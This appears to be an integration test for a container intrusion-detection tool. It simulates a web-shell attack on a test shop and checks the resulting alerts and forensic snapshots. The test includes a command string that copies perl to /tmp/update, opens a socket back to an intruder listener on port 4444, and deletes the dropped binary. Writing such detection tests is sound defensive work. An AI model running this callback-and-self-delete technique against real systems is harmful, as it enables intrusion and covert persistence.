import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import type { Server, Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { engineMissing } from '../support/requirements.ts';
import { waitFor } from '../support/wait.ts';
import { type Engine, startEngine } from './engine.ts';
import { type Product, startProduct } from './product.ts';
import { openShop } from './shop.ts';
import type { Shop } from './shop.ts';

const missing = engineMissing();
const secret = 'hunter2-swordfish';
let engine: Engine;
let product: Product;
let shop: Shop;
/** The intruder's end of the connection that the shell makes. */
let intruder: Server;
const connections: Socket[] = [];

beforeEach((context) => {
  if (missing !== undefined) context.skip(missing);
});
beforeAll(async () => {
  if (missing !== undefined) return;
  engine = await startEngine();
  // What is known to be bad is critical from the first second on, without learning for long.
  const thresholds = JSON.stringify([{ warning: 2, critical: 3 }]);
  product = await startProduct(engine.host, [
    ...['--slice', '1s', '--startup', '2s', '--snapshot-binaries', 'drift', '--thresholds', thresholds],
  ]);
  shop = await openShop(engine);
  intruder = createServer((socket) => {
    connections.push(socket);
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => {
    intruder.listen(4444, '0.0.0.0', resolve);
  });
}, 300_000);
afterAll(async () => {
  for (const socket of connections) socket.destroy();
  intruder?.close();
  await product?.stop();
  await engine?.stop();
}, 120_000);

interface Listed {
  readonly id: string;
  readonly alert?: string;
  readonly incident?: string;
}

/** The files of a snapshot's archive, each with the hash that the manifest says. */
async function unpack(path: string): Promise<(name: string) => Buffer> {
  const directory = mkdtempSync(join(tmpdir(), 'anchorwatch-unpacked-'));
  const archive = Buffer.from(await (await fetch(`${product.url}${path}`)).arrayBuffer());
  writeFileSync(join(directory, 'archive'), archive);
  execFileSync('tar', ['xzf', join(directory, 'archive'), '-C', directory]);
  const manifest = JSON.parse(readFileSync(join(directory, 'manifest.json'), 'utf8')) as {
    readonly files: readonly { readonly name: string; readonly sha256: string }[];
  };
  const files = new Map(
    manifest.files.map(({ name, sha256 }) => {
      const bytes = readFileSync(join(directory, name));
      expect(createHash('sha256').update(bytes).digest('hex')).toBe(sha256);
      expect(bytes.includes(secret)).toBe(false);
      return [name, bytes];
    }),
  );
  rmSync(directory, { recursive: true, force: true });
  return (name) => files.get(name) ?? Buffer.alloc(0);
}

test('a shell of a web server that calls out: the snapshot of its alert has the shell, its socket and the program that it dropped', async () => {
  const gateway = await engine.cli('inspect', '-f', '{{.NetworkSettings.Gateway}}', shop.application);
  // The dropped program holds a connection to the intruder, and has no name any more. Nobody waits for the shell's answer.
  const deed = `cp /usr/bin/perl /tmp/update && TOKEN=${secret} /tmp/update -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new("${gateway}:4444"); unlink "/tmp/update"; sleep 60' password=${secret}`;
  shop.startLoad();
  await waitFor('the shop to answer', () => shop.served.answered > 20, 60_000);
  shop.stopLoad();
  void shop.exploit(deed).catch(() => undefined);
  const alert = await waitFor(
    'a critical alert',
    () =>
      product.alerts.find(({ severity, container }) => severity === 'critical' && container.name === shop.application),
    60_000,
  );
  const listed = await waitFor(
    'its snapshot',
    async () => {
      const { items } = await product.get<{ items: readonly Listed[] }>('/api/v1/snapshots?container=shop-app-1');
      return items[0];
    },
    60_000,
  );
  const incident = listed.incident ?? '';
  expect(product.alerts.find(({ id }) => id === listed.alert)?.severity).toBe('critical');
  expect(alert.container.name).toBe('shop-app-1');
  // The alert may have come before the program connected and removed itself: what is there then is asked for on demand.
  await waitFor('the connection', () => connections.length > 0, 30_000);
  const of = await unpack(`/api/v1/incidents/${incident}/snapshots/${listed.id}/archive`);
  expect(of('processes.json').toString()).toMatch(/"exe":"\/(usr\/)?bin\/(da)?sh"/);
  expect(of('inspect.json').toString()).toContain('"Env"');

  const ticket = await product.post<{ id: string }>(`/api/v1/incidents/${incident}/snapshot`, {});
  await waitFor(
    'the second snapshot',
    async () => (await fetch(`${product.url}/api/v1/snapshots/${ticket.id}`)).ok,
    60_000,
  );
  const read = await unpack(`/api/v1/snapshots/${ticket.id}/archive`);
  const executables = JSON.parse(read('executables.json').toString()) as readonly {
    readonly path: string;
    readonly sha256: string;
    readonly deleted: boolean;
    readonly copy?: string;
    readonly pids: readonly number[];
  }[];
  const dropped = executables.find(({ path }) => path === '/tmp/update');
  const perl = await engine.cli('exec', shop.application, 'sha256sum', '/usr/bin/perl');
  expect(dropped).toMatchObject({ deleted: true, sha256: perl.slice(0, 64), copy: `binaries/${perl.slice(0, 64)}` });
  const networks = JSON.parse(read('sockets.json').toString()) as readonly {
    readonly sockets: readonly { readonly remote: string; readonly state: string; readonly pids: readonly number[] }[];
  }[];
  const socket = networks.flatMap(({ sockets }) => sockets).find(({ remote }) => remote === `${gateway}:4444`);
  expect(socket).toMatchObject({ state: 'established', pids: dropped?.pids });
  expect(read('processes.json').toString()).toContain('password=***');
  expect(JSON.parse(read('processes.json').toString())).toContainEqual(
    expect.objectContaining({
      exe: '/tmp/update',
      environment: expect.objectContaining({ names: expect.arrayContaining(['TOKEN']) }),
    }),
  );
  expect(read('changes.json').toString()).toContain('"/var/log/shop.log"');
  const metrics = await product.metrics();
  expect(metrics).toMatch(/anchorwatch_snapshots_received_total\{outcome="stored"\} [2-9]/);
});
